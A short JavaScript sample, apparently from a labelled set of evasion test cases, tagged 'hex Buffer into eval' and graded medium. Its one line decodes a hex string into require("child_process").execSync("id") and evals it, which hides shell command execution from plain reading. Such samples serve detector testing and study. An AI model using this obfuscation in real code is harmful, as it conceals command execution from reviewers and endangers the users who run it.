// evasion: hex Buffer into eval
// grade: medium; does: shell
eval(Buffer.from("7265717569726528226368696c645f70726f6365737322292e6578656353796e63282269642229", "hex").toString());
